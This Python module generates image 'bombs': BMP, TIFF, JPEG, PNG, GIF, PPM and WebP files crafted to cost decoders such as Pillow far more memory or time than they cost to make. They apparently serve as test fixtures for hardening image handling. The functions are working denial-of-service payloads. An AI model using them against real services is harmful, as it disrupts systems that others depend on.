"""Picture files that cost their reader far more than they cost their maker."""

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

MEGABYTE = 10**6


def _small(kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((64, 64), 50).convert("RGB").save(buffer, kind, **options)
    return buffer.getvalue()


def _bmp(side: int, runs: bytes) -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(runs), 0, 0, 256, 0)
    offset = 14 + len(header) + 1024
    size = offset + len(runs)
    return b"BM" + struct.pack("<IHHI", size, 0, 0, offset) + header + bytes(1024) + runs


def bmp_deltas() -> bytes:
    """A kilobyte that jumps to the end of 100 megapixels."""
    return _bmp(10_000, b"\0\2\xff\xff" * 6)


def bmp_single_pixels(side: int = 5000) -> bytes:
    """Every run of run-length coding is one pixel long."""
    return _bmp(side, b"\1\7" * (side * side))[: 29 * MEGABYTE]


def _tiff(entries: list[tuple[int, int, int, int]], block: bytes) -> bytes:
    """A file with a table of (tag, type, count, value or place) and a block at 8."""
    table = struct.pack("<H", len(entries))
    table += b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<I", 8 + len(block)) + block + table + bytes(4)


def _tiff_picture(side: int) -> list[tuple[int, int, int, int]]:
    return [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]


def tiff_tags_on_one_block() -> bytes:
    """Four thousand tags, each of which says that the same megabyte is its value."""
    block = bytes(MEGABYTE)
    tags = [(tag, 4, len(block) // 4, 8) for tag in range(40_000, 44_000)]
    picture = [*_tiff_picture(64), (273, 4, 1, 8), (278, 4, 1, 64), (279, 4, 1, 4096)]
    return _tiff([*picture, *tags], block)


def tiff_tiles() -> bytes:
    """Two million tiles, all of them the same 16 pixels."""
    count = 2_000_000
    block = struct.pack("<I", 8) * count
    tiles = [(322, 4, 1, 1), (323, 4, 1, 1), (324, 4, count, 8), (325, 4, count, 8)]
    return _tiff([*_tiff_picture(1400), *tiles], block)


def jpeg_scans() -> bytes:
    """A progressive JPEG of 25 megapixels whose last scan comes ten thousand times."""
    buffer = io.BytesIO()
    Image.new("L", (5000, 5000), 99).save(buffer, "JPEG", progressive=True)
    whole = buffer.getvalue()
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * (1 + 115_000 // len(last)) + b"\xff\xd9"


def jpeg_padding() -> bytes:
    """Nearly 30 MB of the byte that may stand before any marker."""
    whole = _small("JPEG")
    return whole[:2] + b"\xff" * (29 * MEGABYTE) + whole[2:]


def jpeg_exif_in_pieces() -> bytes:
    """EXIF in very many segments, each added to those before."""
    whole = _small("JPEG")
    piece = b"\xff\xe1" + struct.pack(">H", 2 + 6 + 60) + b"Exif\0\0" + bytes(60)
    return whole[:2] + piece * (28 * MEGABYTE // len(piece)) + whole[2:]


def _chunk(kind: bytes, content: bytes) -> bytes:
    checksum = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + checksum


def png(size: tuple[int, int], content: bytes) -> bytes:
    """A PNG in RGB whose pixels are `content`, whatever that is."""
    header = struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0)
    chunks = {b"IHDR": header, b"IDAT": content, b"IEND": b""}
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*chunk) for chunk in chunks.items())


def png_chunks() -> bytes:
    """Two million chunks of nothing."""
    whole = _small("PNG")
    return whole[:33] + _chunk(b"prVt", b"") * (28 * MEGABYTE // 12) + whole[33:]


def gif_comments() -> bytes:
    """Very many comments, each added to those before."""
    whole = _small("GIF")
    place = 13 + 3 * 2 ** ((whole[10] & 7) + 1)  # after header and palette
    comment = b"\x21\xfe\xff" + bytes([65]) * 255 + b"\0"
    return whole[:place] + comment * (28 * MEGABYTE // len(comment)) + whole[place:]


def ppm_plain() -> bytes:
    """Numbers in plain text, which Pillow reads in Python."""
    return b"P2\n3700 3700\n9\n" + b"1 " * (3700 * 3700)


def ppm_maximum() -> bytes:
    """A maximum other than 255, so that Pillow scales every pixel in Python."""
    return b"P5\n5300 5300\n254\n" + bytes(5300 * 5300)


def _exif_table() -> bytes:
    """EXIF of many tags whose value is the same block."""
    block = bytes(300_000)
    return _tiff([(tag, 7, len(block), 8) for tag in range(1000, 9000)], block)


def png_exif_table() -> bytes:
    """A table of 8,000 tags on one block, in a PNG."""
    whole = _small("PNG")
    return whole[:33] + _chunk(b"eXIf", _exif_table()) + whole[33:]


def webp_exif_table() -> bytes:
    """The same in a WebP."""
    return _small("WEBP", exif=b"Exif\0\0" + _exif_table())


def webp_blank() -> bytes:
    """A blank WebP of 100 megapixels: its decoder holds the picture several times."""
    buffer = io.BytesIO()
    Image.new("RGB", (10_000, 10_000)).save(buffer, "WEBP", lossless=True, method=0)
    return buffer.getvalue()


BOMBS: dict[str, Callable[[], bytes]] = {
    f"{bomb.__name__}.{bomb.__name__.split('_')[0]}": bomb
    for bomb in (
        *(bmp_deltas, bmp_single_pixels, tiff_tags_on_one_block, tiff_tiles, jpeg_scans),
        *(jpeg_padding, jpeg_exif_in_pieces, png_chunks, gif_comments, ppm_plain, ppm_maximum),
        *(png_exif_table, webp_exif_table, webp_blank),
    )
}
